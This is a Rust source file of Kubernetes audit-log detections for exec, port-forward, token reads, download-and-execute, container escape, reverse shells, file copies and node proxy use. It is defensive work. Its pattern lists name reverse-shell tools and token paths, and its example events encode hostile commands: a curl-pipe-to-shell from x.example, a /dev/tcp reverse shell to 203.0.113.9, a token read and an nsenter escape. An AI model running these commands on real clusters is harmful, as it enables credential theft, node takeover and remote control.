//! Detections on running code in existing containers and nodes: exec and attach,
//! port-forwards, node proxies, and what the exec'd commands do (read the service
//! account token, download and run, escape to the node, open a reverse shell, copy
//! files out).
//!
//! Every successful exec or attach raises `K8S_ExecIntoContainer`, also when a more
//! specific command alert fires for it; a refused one raises nothing here.

use super::{AuditEvent, Detection, DetectionInfo, Hit};
use crate::rules::Severity;

/// A successful exec (or attach, with `attach`) into a pod.
fn exec_like(event: &AuditEvent, attach: bool) -> bool {
    event.object.resource == "pods"
        && (event.object.subresource == "exec" || (attach && event.object.subresource == "attach"))
        && matches!(event.verb.as_str(), "create" | "get")
        && event.succeeded()
}

/// The exec's command as one string, for matching.
fn command_line(event: &AuditEvent) -> String {
    event.command.join(" ")
}

fn exec_into_container(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, true) {
        let detail = if event.object.subresource == "attach" {
            "attach".to_string()
        } else {
            format!("command: {}", command_line(event))
        };
        out.push(Hit::new("K8S_ExecIntoContainer").detail(detail));
    }
}

fn port_forward(event: &AuditEvent, out: &mut Vec<Hit>) {
    if event.object.resource == "pods"
        && event.object.subresource == "portforward"
        && event.succeeded()
    {
        out.push(Hit::new("K8S_PortForward"));
    }
}

/// Paths of projected service account and cloud workload identity tokens.
pub const TOKEN_PATHS: &[&str] = &[
    "/var/run/secrets/kubernetes.io/serviceaccount",
    "/run/secrets/kubernetes.io/serviceaccount",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount",
    "/var/run/secrets/azure/tokens",
    "/var/run/secrets/tokens",
];

fn token_read(event: &AuditEvent, out: &mut Vec<Hit>) {
    if !exec_like(event, false) {
        return;
    }
    let line = command_line(event);
    if TOKEN_PATHS.iter().any(|p| line.contains(p)) {
        out.push(Hit::new("K8S_ServiceAccountTokenRead").detail(format!("command: {line}")));
    }
}

/// Whether a command downloads something and runs it.
pub fn download_and_execute(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    let fetch = ["curl ", "wget ", "curl\t", "wget\t"]
        .iter()
        .any(|f| l.contains(f))
        || l.starts_with("curl")
        || l.starts_with("wget");
    let run = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "chmod +x",
        "chmod 777",
        "| python",
        "|python",
    ]
    .iter()
    .any(|r| l.contains(r));
    fetch && run
}

fn download_execute(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, false) && download_and_execute(&command_line(event)) {
        out.push(
            Hit::new("K8S_DownloadAndExecute").detail(format!("command: {}", command_line(event))),
        );
    }
}

/// Whether a command breaks out of the container onto the node.
pub fn escape_command(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    l.split_whitespace()
        .any(|w| w == "nsenter" || w.ends_with("/nsenter"))
        || l.contains("chroot /host")
        || l.contains("/proc/1/root")
        || l.contains("docker.sock")
        || l.contains("containerd.sock")
        || l.contains("release_agent")
}

fn escape(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, false) && escape_command(&command_line(event)) {
        out.push(
            Hit::new("K8S_ContainerEscapeCommand")
                .detail(format!("command: {}", command_line(event))),
        );
    }
}

/// Whether a command opens a shell to a remote host.
pub fn reverse_shell(line: &str) -> bool {
    let l = line.to_ascii_lowercase();
    l.contains("/dev/tcp/")
        || l.contains("/dev/udp/")
        || ((l.contains("nc ") || l.contains("ncat ") || l.contains("netcat "))
            && (l.contains(" -e ") || l.contains(" -c ")))
        || (l.contains("socat") && l.contains("exec:"))
        || (l.contains("mkfifo") && (l.contains("nc ") || l.contains("sh")))
        || (l.contains("socket") && l.contains("subprocess") && l.contains("connect"))
        || l.contains("bash -i >&")
        || l.contains("sh -i >&")
}

fn reverse(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, false) && reverse_shell(&command_line(event)) {
        out.push(Hit::new("K8S_ReverseShell").detail(format!("command: {}", command_line(event))));
    }
}

/// `tar` with create (`c`) or extract (`x`) flags: how `kubectl cp` copies.
fn tar_mode(command: &[String]) -> Option<char> {
    let first = command.first()?;
    if first != "tar" && !first.ends_with("/tar") {
        return None;
    }
    let flags = command.get(1)?;
    let flags = flags.trim_start_matches('-');
    if flags.contains('c') {
        Some('c')
    } else if flags.contains('x') {
        Some('x')
    } else {
        None
    }
}

fn copy_out(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, false) && tar_mode(&event.command) == Some('c') {
        out.push(
            Hit::new("K8S_CopyFromContainer").detail(format!("command: {}", command_line(event))),
        );
    }
}

fn copy_in(event: &AuditEvent, out: &mut Vec<Hit>) {
    if exec_like(event, false) && tar_mode(&event.command) == Some('x') {
        out.push(
            Hit::new("K8S_CopyToContainer").detail(format!("command: {}", command_line(event))),
        );
    }
}

fn node_proxy(event: &AuditEvent, out: &mut Vec<Hit>) {
    if event.object.resource != "nodes"
        || event.object.subresource != "proxy"
        || event.failed()
        || super::system::is_system_identity(&event.user)
    {
        return;
    }
    let path = event.request_uri.split('?').next().unwrap_or("");
    // Metrics scrapes through the proxy are routine; commands and pod lists are not.
    if path.ends_with("/metrics") || path.contains("/metrics/") {
        return;
    }
    let risky = [
        "/exec/",
        "/run/",
        "/attach/",
        "/portForward/",
        "/pods",
        "/runningpods",
        "/containerLogs/",
    ]
    .iter()
    .any(|p| path.contains(p));
    let hit = Hit::new("K8S_NodeProxy");
    out.push(if risky {
        hit.severity(Severity::High)
    } else {
        hit
    });
}

/// The detections of this family.
pub static DETECTIONS: &[Detection] = &[
    Detection {
        info: DetectionInfo {
            id: "K8S_ExecIntoContainer",
            title: "Command executed in a container (exec or attach)",
            severity: Severity::Medium,
            tactic: "Execution",
            techniques: &["T1609"],
            matrix: Some("MS-TA9006"),
            description: "Someone ran a command in a container (`kubectl exec`) or attached to one. Every successful exec or attach raises it, also when a more specific alert fires for the same command.",
            reads: &["verb", "objectRef.subresource", "requestURI (command=)", "requestObject.command", "responseStatus.code (101 is success)"],
            defaults: "Refused requests (4xx) do not raise it.",
            example: r#"{"auditID":"b1","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/prod/pods/api-1/exec?command=sh&container=api&stdin=true&tty=true","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"prod","name":"api-1"},"responseStatus":{"code":101}}"#,
            remediation: "Confirm the session was expected. Grant `pods/exec` only to operators who need it, and prefer ephemeral debug containers with an audit trail.",
        },
        check: Some(exec_into_container),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_PortForward",
            title: "Port forwarded to a pod",
            severity: Severity::Low,
            tactic: "Lateral Movement",
            techniques: &["T1572"],
            matrix: None,
            description: "A port of a pod was forwarded to someone's machine (`kubectl port-forward`), bypassing Services, ingress and network policies.",
            reads: &["objectRef.subresource", "responseStatus.code"],
            defaults: "Refused requests do not raise it.",
            example: r#"{"auditID":"b2","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/db/pods/pg-0/portforward","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"portforward","namespace":"db","name":"pg-0"},"responseStatus":{"code":101}}"#,
            remediation: "Confirm it was expected; restrict `pods/portforward`.",
        },
        check: Some(port_forward),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_ServiceAccountTokenRead",
            title: "Service account token read through exec",
            severity: Severity::High,
            tactic: "Credential Access",
            techniques: &["T1528", "T1552.007"],
            matrix: Some("MS-TA9016"),
            description: "An exec'd command reads the pod's service account token (or a cloud workload identity token): the token can be used from anywhere until it expires.",
            reads: &["objectRef.subresource", "requestURI (command=)", "requestObject.command"],
            defaults: "Token directories of Kubernetes, EKS and AKS workload identity; refused requests ignored.",
            example: r#"{"auditID":"b3","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/ci/pods/runner/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"ci","name":"runner"},"responseStatus":{"code":101}}"#,
            remediation: "Treat the token as stolen: delete the pod (its bound token dies with it), review what the service account did since, and narrow its RBAC.",
        },
        check: Some(token_read),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_DownloadAndExecute",
            title: "Download and execute through exec",
            severity: Severity::High,
            tactic: "Execution",
            techniques: &["T1105", "T1059.004"],
            matrix: Some("MS-TA9007"),
            description: "An exec'd command downloads a file and runs it (`curl … | sh`, `wget … && chmod +x`).",
            reads: &["requestURI (command=)", "requestObject.command"],
            defaults: "curl or wget with a pipe into a shell or a chmod +x.",
            example: r#"{"auditID":"b4","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/web/pods/w/exec?command=sh&command=-c&command=curl%20-s%20http%3A%2F%2Fx.example%2Fi.sh%20%7C%20sh","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"web","name":"w"},"responseStatus":{"code":101}}"#,
            remediation: "Isolate the pod, keep its filesystem for analysis, then delete it.",
        },
        check: Some(download_execute),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_ContainerEscapeCommand",
            title: "Container escape command through exec",
            severity: Severity::High,
            tactic: "Privilege Escalation",
            techniques: &["T1611"],
            matrix: Some("MS-TA9018"),
            description: "An exec'd command reaches the node: `nsenter`, `chroot /host`, `/proc/1/root`, the container runtime's socket, a cgroup `release_agent`.",
            reads: &["requestURI (command=)", "requestObject.command"],
            defaults: "Refused requests ignored.",
            example: r#"{"auditID":"b5","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/dev/pods/p/exec?command=nsenter&command=-t&command=1&command=-m&command=sh","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"dev","name":"p"},"responseStatus":{"code":101}}"#,
            remediation: "Treat the node as compromised: cordon and drain it, rotate its credentials.",
        },
        check: Some(escape),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_ReverseShell",
            title: "Reverse shell through exec",
            severity: Severity::High,
            tactic: "Command and Control",
            techniques: &["T1059.004", "T1071"],
            matrix: Some("MS-TA9007"),
            description: "An exec'd command connects a shell to a remote host (`/dev/tcp/`, `nc -e`, `socat exec:`, a Python socket with a subprocess).",
            reads: &["requestURI (command=)", "requestObject.command"],
            defaults: "Refused requests ignored.",
            example: r#"{"auditID":"b6","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/dev/pods/p/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"dev","name":"p"},"responseStatus":{"code":101}}"#,
            remediation: "Isolate the pod and block the remote address; find how the identity that ran it was obtained.",
        },
        check: Some(reverse),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_CopyFromContainer",
            title: "Files copied out of a container",
            severity: Severity::Medium,
            tactic: "Exfiltration",
            techniques: &["T1020"],
            matrix: Some("MS-TA9041"),
            description: "An exec ran `tar c…` to stream files out of a container, as `kubectl cp POD:path` does.",
            reads: &["requestURI (command=)", "requestObject.command"],
            defaults: "Refused requests ignored.",
            example: r#"{"auditID":"b7","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/db/pods/pg-0/exec?command=tar&command=cf&command=-&command=%2Fvar%2Flib%2Fpostgresql","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"db","name":"pg-0"},"responseStatus":{"code":101}}"#,
            remediation: "Find what was copied and whether it held credentials or customer data.",
        },
        check: Some(copy_out),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_CopyToContainer",
            title: "Files copied into a container",
            severity: Severity::Low,
            tactic: "Execution",
            techniques: &["T1105"],
            matrix: Some("MS-TA9006"),
            description: "An exec ran `tar x…` to write files into a running container, as `kubectl cp path POD:` does: tools dropped into a workload.",
            reads: &["requestURI (command=)", "requestObject.command"],
            defaults: "Refused requests ignored.",
            example: r#"{"auditID":"b8","stage":"ResponseStarted","verb":"create","requestURI":"/api/v1/namespaces/dev/pods/p/exec?command=tar&command=xmf&command=-&command=-C&command=%2Ftmp","user":{"username":"alice"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"dev","name":"p"},"responseStatus":{"code":101}}"#,
            remediation: "Check what was copied in; running containers should be immutable.",
        },
        check: Some(copy_in),
    },
    Detection {
        info: DetectionInfo {
            id: "K8S_NodeProxy",
            title: "Kubelet API reached through the node proxy",
            severity: Severity::Medium,
            tactic: "Execution",
            techniques: &["T1609", "T1613"],
            matrix: Some("MS-TA9030"),
            description: "Requests to `nodes/proxy` reach the kubelet's API with the API server's credentials: it can list pods and run commands in any container on the node, and these commands are not audited as exec.",
            reads: &["objectRef.resource", "objectRef.subresource", "requestURI", "responseStatus.code"],
            defaults: "Ignores metrics scrapes (`/metrics…`), system identities and refused requests; high when the path runs commands or lists pods.",
            example: r#"{"auditID":"b9","verb":"create","requestURI":"/api/v1/nodes/node-1/proxy/run/prod/api-1/api","user":{"username":"system:serviceaccount:monitoring:agent"},"objectRef":{"resource":"nodes","subresource":"proxy","name":"node-1"},"responseStatus":{"code":200}}"#,
            remediation: "Remove `nodes/proxy` from roles that do not strictly need it; it is equivalent to exec on every pod of the node.",
        },
        check: Some(node_proxy),
    },
];
